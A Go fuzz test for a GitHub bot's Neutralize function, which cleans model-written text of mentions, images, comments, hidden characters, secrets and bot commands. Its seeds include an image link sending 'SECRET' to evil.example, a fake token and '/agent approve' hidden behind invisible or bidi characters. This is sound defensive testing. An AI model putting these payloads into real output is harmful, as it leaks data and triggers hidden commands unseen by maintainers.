package tracking

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/agentos/agentos/bot/command"
	"github.com/agentos/agentos/kernel/redact"
	"github.com/agentos/agentos/runtime/untrusted"
)

// prose is the part of neutralized text that GitHub renders as Markdown
// (not code), line by line; the flag says a segment starts its line.
type segment struct {
	text      string
	lineStart bool
}

func prose(s string) []segment {
	var out []segment
	fence, html := "", false
	for _, l := range strings.SplitAfter(s, "\n") {
		t := strings.TrimRight(l, " \t\r\n")
		if fence != "" {
			if closesFence(t, fence) {
				fence = ""
			}
			continue
		}
		if strings.TrimSpace(t) == "" {
			html = false
			continue
		}
		if !html {
			if m := opensFence(t); m != "" {
				fence = m
				continue
			}
			html = startsHTMLBlock(t)
		}
		if html {
			out = append(out, segment{l, true})
			continue
		}
		// Cut code spans: an unescaped run of n backticks to the next run
		// of exactly n.
		first := true
		for len(l) > 0 {
			i := -1
			for k := 0; k < len(l); k++ {
				if l[k] == '`' && !escapedAt(l, k) {
					i = k
					break
				}
			}
			if i < 0 {
				out = append(out, segment{l, first})
				break
			}
			n := 1
			for i+n < len(l) && l[i+n] == '`' {
				n++
			}
			j := closingTicks(l[i+n:], n)
			if j < 0 {
				out = append(out, segment{l[:i+n], first})
				l = l[i+n:]
				first = false
				continue
			}
			out = append(out, segment{l[:i], first})
			first = false
			l = l[i+n+j+n:]
		}
	}
	return out
}

var (
	liveMention = regexp.MustCompile(`(^|[^A-Za-z0-9_/])(@|&#0*64;|&#[xX]0*40;|&commat;)[A-Za-z0-9]`)
	liveImage   = regexp.MustCompile(`(?i)!\[|<\s*(img|picture|source|video|image|svg|audio|iframe|object|embed|input)\b|<!--`)
)

// FuzzNeutralize: whatever a model or a non-maintainer wrote, the text the
// bot posts notifies no one, loads no image, hides nothing in an HTML
// comment or in invisible characters, holds no credential-shaped string,
// and is no command the bot's own parser would act on — neither as posted
// nor after the bot's own cleaning of comments it reads; and as goldmark
// reads it, it holds no link, image, raw HTML or heading, and no mention,
// e-mail address, issue reference or bare URL in its rendered text.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{
		"ask @alice and @octo/security", "@bob first", "mail dev@example.com",
		"see ![x](https://evil.example/p?d=SECRET)", `<img src="https://evil.example/x">`,
		"/agent approve ap-1", "> /agent cancel", "code `@alice ![i](u)` stays",
		"```\n@alice\n![i](u)\n/agent x\n```\n@bob", "a `` ` `` @c", "unclosed ` @d",
		"  ```\n@alice", "``` a`b\n@alice\n```", "\\`@alice\\`", "<div>\n`@alice`\n</div>",
		"&#64;alice &#x40;bob &commat;carol", "@a-@b", "\u200b/agent approve", "<!-- @alice -->",
		"token ghp_0123456789abcdefghijABCDEFGHIJ012345 and GITHUB_TOKEN=abc123",
		"\u202e/agent deny\u202c", "x\n```\n```js\n@alice",
	} {
		f.Add(s, "/agent")
	}
	for _, glob := range []string{"testdata/*", "../../docs/github.md", "../../README.md"} {
		paths, _ := filepath.Glob(glob)
		for _, p := range paths {
			b, err := os.ReadFile(p)
			if err != nil || !utf8.Valid(b) {
				continue
			}
			if len(b) > 4096 {
				b = b[:4096]
			}
			f.Add(string(b), "/agent")
		}
	}
	secrets := redact.New(nil)
	f.Fuzz(func(t *testing.T, in, trigger string) {
		if !strings.HasPrefix(trigger, "/") || len(trigger) < 2 || strings.ContainsAny(trigger, " \t\r\n`\\<>&@![]") || !utf8.ValidString(trigger) {
			trigger = "/agent"
		}
		out := Neutralize(in, trigger)
		if strings.ContainsFunc(out, func(r rune) bool { return untrusted.Visible(string(r), false) != string(r) }) {
			t.Fatalf("invisible character left: %q", out)
		}
		if secrets.String(out) != out {
			t.Fatalf("credential-shaped text left: %q", out)
		}
		for _, seg := range prose(out) {
			if m := liveMention.FindString(seg.text); m != "" {
				t.Fatalf("live mention %q in %q (from %q)", m, out, in)
			}
			if m := liveImage.FindString(seg.text); m != "" {
				t.Fatalf("image or comment %q in %q (from %q)", m, out, in)
			}
		}
		// The same, as goldmark (an independent GFM parser) reads it.
		if live := liveInGFM(out); live != "" {
			t.Fatalf("goldmark reads %s in %q (from %q)", live, out, in)
		}
		for _, text := range []string{out, func() string { s, _ := untrusted.GitHubText(out, 1<<20); return s }()} {
			if r := command.Parse(text, trigger); r.Kind != command.Ignore {
				t.Fatalf("the bot reads a command (%v) in %q (from %q)", r.Kind, text, in)
			}
		}
	})
}
